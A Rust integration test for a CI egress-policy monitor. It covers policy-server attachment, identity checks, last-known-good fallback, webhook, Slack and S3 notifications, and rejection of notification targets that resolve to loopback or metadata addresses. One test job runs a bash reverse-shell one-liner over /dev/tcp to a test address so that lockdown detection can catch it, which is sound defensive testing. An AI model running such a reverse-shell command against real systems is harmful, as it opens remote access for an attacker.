//! The main job with a policy server instead of a directory of files: attached by command line, resolved with an identity that
//! GitHub vouches for, enforced, told; and what happens while the server is away.

use anyhow::{Context, Result, ensure};
use portcullis_tests::gate::step;
use portcullis_tests::patience::wait_for;
use portcullis_tests::policy_server::{ADDRESS, PolicyServer, URL, for_server};
use portcullis_tests::server::http::Response;
use portcullis_tests::server::id_tokens::IdTokens;
use portcullis_tests::server::object_store::ObjectStore;
use portcullis_tests::world::MonitorOptions;
use portcullis_tests::{Canary, Job, JobOutcome, JobResult, StepKind, World};
use serde_json::{Value, json};
use std::fs;
use std::net::TcpListener;
use std::path::Path;
use std::thread;

const POLICY: &str = "name: hello-build
egress-policy: block
allowed-endpoints: [git.test:443, pypi.test:443, files.pypi.test:443, api.ok.test:443]
on-failure: last-known-good
";

fn job(run_id: u64, tokens: &IdTokens, canary: &Canary) -> Result<Job> {
    let file = Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/jobs/main.yml"));
    let mut job = Job::from_file(file)?.secret("DEPLOY_TOKEN", canary.as_str());
    // One runner, several jobs: each begins as on a fresh checkout.
    job.steps.insert(0, step("clean", "find . -mindepth 1 -delete"));
    Ok(for_server(job, run_id, tokens))
}

/// Makes an integration, and has the store tell it that this is a test.
fn integrate(store: &PolicyServer, name: &str, target: &Value, selection: &Value) -> Result<()> {
    let file = store.directory().join("integration.json");
    let body = json!({ "name": name, "target": target, "selection": selection });
    fs::write(&file, body.to_string())?;
    store.command(&["integration", "create", &file.display().to_string()])?;
    let tested = store.command(&["integration", "test", name])?;
    ensure!(tested.contains("works"), "{tested}");
    Ok(())
}

/// What people's receivers got at a host, as JSON, in order; tests left out.
fn told(world: &World, host: &str) -> Vec<Value> {
    let requests = world.web().requests();
    requests
        .iter()
        .filter(|request| request.host == host)
        .filter_map(|request| serde_json::from_slice::<Value>(&request.body).ok())
        .filter(|body| !body.to_string().contains("this is a test"))
        .collect()
}

/// People are told of a blocked call and of a job that was killed; where a name leads is looked at each time.
fn people_are_told(
    store: &PolicyServer,
    world: &World,
    objects: &ObjectStore<'_>,
    run: u64,
) -> Result<()> {
    let lab = store.directory().join("lab.yaml");
    fs::write(
        &lab,
        "name: lab\negress-policy: audit\nlockdown-mode: {enabled: true, detections: [Reverse-Shell]}\n",
    )?;
    store.command(&["policy", "apply", &lab.display().to_string()])?;
    store.command(&["attach", "lab", "--repository", "octo/lab"])?;
    let peer = world.internet().run(|| TcpListener::bind("0.0.0.0:4445"))??;
    thread::spawn(move || drop(peer.incoming().collect::<Vec<_>>()));
    let script = format!("(bash -i >& /dev/tcp/{ADDRESS}/4445 0>&1) & sleep 5; echo went-on");
    let mut job = Job::script(&script).repository("octo/lab");
    job.context.run_id = run;
    let result = world.runner(0).run(&job)?;
    ensure!(result.outcome == JobOutcome::Failure, "{}", result.log());

    let hook = wait_for(&format!("the webhook; {}", store.log()), || {
        told(world, "hooks.test").into_iter().find(|body| body["type"] == "detection.created")
    })?;
    let data = &hook["data"];
    for (key, value) in
        [("detection", "Reverse-Shell"), ("repository", "octo/lab"), ("cluster", "prod-linux")]
    {
        ensure!(data[key] == value, "{key}: {hook}");
    }
    ensure!(data["policy"]["name"] == "lab" && data["run_id"] == run, "{hook}");
    ensure!(
        data["is_lockdown"] == true && data["evidence"].to_string().contains(ADDRESS),
        "{hook}"
    );
    ensure!(data["process"]["exe"].to_string().contains("bash"), "{hook}");
    ensure!(data["link"] == format!("{URL}/runs/{run}-1"), "{hook}");
    let calls = told(world, "hooks.test").into_iter().find(|body| body["type"] == "calls.blocked");
    let calls = calls.context("the main job's blocked call was not told")?;
    let listed = calls["data"]["calls"].as_array().context("no calls")?;
    let is_told = listed.iter().any(|call| {
        call["endpoint"].to_string().contains(":4444")
            && call["process"].to_string().contains("python")
            && call["verdict"] == "blocked"
    });
    ensure!(is_told, "{calls}");
    ensure!(calls["data"]["repository"] == "octo/hello", "{calls}");

    let message = wait_for("Slack", || told(world, "slack.test").pop())?;
    let title = "Reverse-Shell in job build of octo/lab; the job was killed";
    ensure!(message["blocks"][0]["text"]["text"] == title, "{message}");
    let object = wait_for("the bucket", || {
        let names = objects.names().ok()?;
        let texts = names.iter().filter(|name| name.starts_with("pc/notifications/"));
        texts.filter_map(|name| objects.text(name).ok()).find(|text| text.contains("octo/lab"))
    })?;
    ensure!(serde_json::from_str::<Value>(&object)?["data"] == *data, "{object}");
    let detections = store.json(&["detections", "--repository", "octo/lab"])?;
    ensure!(detections[0]["id"] == data["id"], "{detections}");
    Ok(())
}

/// An integration whose name leads elsewhere later, and those that lead where nobody may go.
fn addresses_are_looked_at(store: &PolicyServer, world: &World) -> Result<()> {
    let dns = world.dns();
    let target = |host: &str| json!({ "kind": "slack", "url": format!("https://{host}/x") });
    dns.addresses_with_ttl("rebind.test", 0, &["198.51.100.61"])?;
    integrate(store, "rebinding", &target("rebind.test"), &json!({ "detections": false }))?;
    dns.addresses_with_ttl("rebind.test", 0, &["127.0.0.1"])?;
    let error = store.command(&["integration", "test", "rebinding"]).err();
    let error =
        format!("{:#}", error.context("a name that leads to the store's own host was asked")?);
    ensure!(error.contains("127.0.0.1 is not on the internet (loopback)"), "{error}");
    for (host, usage) in [
        ("metadata.special.test", "cloud-metadata"),
        ("link-local.special.test", "link-local"),
        ("private.special.test", "private-use"),
        ("mapped.special.test", "IPv4-mapped"),
    ] {
        let error = integrate(store, host, &target(host), &json!({ "detections": false })).err();
        let error = format!("{:#}", error.with_context(|| format!("{host} was asked"))?);
        ensure!(error.contains(usage) || error.contains("is not on the internet"), "{error}");
    }
    Ok(())
}

fn first_line(result: &JobResult) -> Result<String> {
    let hook = result.step_of_kind(StepKind::StartedHook).context("no started hook")?;
    let line = hook.log.lines().find(|line| line.starts_with("Portcullis: "));
    Ok(line.with_context(|| hook.log.clone())?.to_owned())
}

#[test]
fn the_main_job_runs_by_the_server_and_without_it() -> Result<()> {
    let world = World::builder().main_job().build()?;
    let notifications = format!(
        "[notifications]\nallowed-networks = [\"{ADDRESS}/32\"]\nallow-http = true\nretry-seconds = [1, 1]\n"
    );
    let mut store = PolicyServer::prepare(&world, &notifications)?;
    store.start()?;
    let tokens = IdTokens::serve(world.web(), URL)?;
    let policy = store.directory().join("hello-build.yaml");
    fs::write(&policy, POLICY)?;
    store.command(&["policy", "apply", &policy.display().to_string()])?;
    store.command(&["attach", "hello-build", "--repository", "octo/hello"])?;
    let enrolled = store.enrol(&world)?;
    assert!(enrolled.contains("cluster prod-linux"), "{enrolled}");
    world.install_hooks()?;
    for host in ["hooks.test", "slack.test"] {
        world.dns().addresses(host, &["198.51.100.60"])?;
        world.web().route(host, "/", |_| Response::ok("ok"));
    }
    world.dns().addresses("rebind.test", &["198.51.100.61"])?;
    world.web().route("rebind.test", "/", |_| Response::ok("ok"));
    let objects = ObjectStore::start(&world, ADDRESS, "evidence")?;
    let key = "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw";
    let hook = json!({ "kind": "webhook", "url": "https://hooks.test/portcullis", "secret": key });
    let slack = json!({ "kind": "slack", "url": "https://slack.test/services/T/B/x" });
    let bucket = json!({
        "kind": "s3", "bucket": "evidence", "region": "us-east-1", "endpoint": objects.url(), "prefix": "pc",
        "access_key_id": "store", "secret_access_key": "key",
    });
    integrate(&store, "hook", &hook, &json!({ "blocked_calls": true }))?;
    integrate(&store, "slack", &slack, &json!({ "lockdown_only": true }))?;
    integrate(&store, "bucket", &bucket, &json!({}))?;
    addresses_are_looked_at(&store, &world)?;
    let mut monitor = world.monitor(MonitorOptions::default())?;
    let canary = Canary::generate()?;

    // With the server.
    let result = world.runner(0).run(&job(11, &tokens, &canary)?)?;
    monitor.wait_until_idle()?;
    let shown = format!("{}\n{}\n{}", result.log(), monitor.log(), store.log());
    assert_eq!(result.outcome, JobOutcome::Success, "{shown}");
    world.attacker().assert_untouched(&canary)?;
    let line = first_line(&result)?;
    assert!(
        line.contains("policy hello-build version 1")
            && line.contains("from repository octo/hello, mode block"),
        "{line}"
    );
    let ids = world.job_ids()?;
    let first = ids.first().context("no job was recorded")?;
    let events = world.events(first)?;
    let record = store.ended_job(11, events.len())?;
    assert_eq!(
        (record["identity"].as_str(), record["cluster"].as_str()),
        (Some("verified"), Some("prod-linux")),
        "{shown}"
    );
    assert_eq!(record["posture"], "enforced");
    let stored = store.json(&["events", first, "--all"])?;
    assert_eq!(stored, serde_json::to_value(&events)?, "every event, as it was recorded");
    let by_the_monitor = |event: &&Value| {
        event["process"]["exe"].as_str().is_some_and(|exe| exe.ends_with("/monitor"))
    };
    let uploads: Vec<_> =
        stored.as_array().context("no list")?.iter().filter(by_the_monitor).collect();
    assert!(uploads.is_empty(), "the monitor's own calls are none of the job's: {uploads:?}");
    let blocked = store.command(&["events", first, "--status", "blocked"])?;
    assert!(blocked.contains(":4444") && blocked.contains("python"), "{blocked}");

    // A token that says something else than the job: the store gives no policy, and what was good last applies.
    let contradicted = job(12, &tokens, &canary)?;
    tokens.vouch_for_run(999);
    let result = world.runner(0).run(&contradicted)?;
    monitor.wait_until_idle()?;
    assert!(result.log().contains("contradicts the job's environment"), "{}", result.log());
    world.attacker().assert_untouched(&canary)?;

    people_are_told(&store, &world, &objects, 21)?;
    monitor.wait_until_idle()?;

    // Without the server, also over a restart of the monitor: the last known good policy, and nothing is lost.
    store.stop()?;
    let result = world.runner(0).run(&job(13, &tokens, &canary)?)?;
    monitor.wait_until_idle()?;
    assert_eq!(result.outcome, JobOutcome::Success, "{}", result.log());
    world.attacker().assert_untouched(&canary)?;
    assert!(first_line(&result)?.contains("policy hello-build version 1"), "{}", result.log());
    assert!(result.log().contains("the last known good policy applies"), "{}", result.log());
    monitor.kill()?;
    monitor.restart()?;
    store.start()?;
    let ids = world.job_ids()?;
    let third = world.events(ids.last().context("no job was recorded")?)?;
    let record = store.ended_job(13, third.len())?;
    assert_eq!(record["identity"], "asserted", "nobody vouched for this job");
    Ok(())
}
